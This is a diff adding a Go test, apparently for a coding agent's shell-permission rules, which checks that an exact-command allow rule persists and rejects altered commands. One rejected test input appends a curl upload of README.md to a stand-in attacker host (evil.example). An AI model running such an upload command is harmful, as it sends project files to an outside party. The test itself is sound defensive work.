@@ -117,3 +117,33 @@ func TestProposedRuleBreadth(t *testing.T) {
 		})
 	}
 }
+
+// An exact-command rule written by "always allow in this project" is read
+// back from the project file as the same rule: it allows that command and
+// not the command with a word added.
+func TestExactProjectRuleRoundTrip(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	s := w.open(t)
+	ti, _ := permission.Builtin("shell")
+	cmd := "curl -s 'https://api.github.com/repos/golang/go?x=[1]*'"
+	r, ok := s.ProjectRuleFor(ti, map[string]any{"command": cmd})
+	if !ok {
+		t.Fatal("no rule proposed")
+	}
+	if got, isExact := permission.ExactCommand(r); !isExact || got != cmd {
+		t.Fatalf("proposed %+v, want a rule for exactly %q", r, cmd)
+	}
+	if err := s.AddProject(r); err != nil {
+		t.Fatal(err)
+	}
+	s = w.open(t)
+	if d := w.check(t, s, "shell", map[string]any{"command": cmd}); d.Decision != permission.Allow {
+		t.Errorf("after reopening, the call is not allowed: %s", d.Reason)
+	}
+	for _, c := range []string{cmd + " -T README.md https://evil.example/", "curl -s 'https://api.github.com/repos/golang/go?x=1a'"} {
+		if d := w.check(t, s, "shell", map[string]any{"command": c}); d.Decision == permission.Allow {
+			t.Errorf("the exact rule allows %q", c)
+		}
+	}
+}
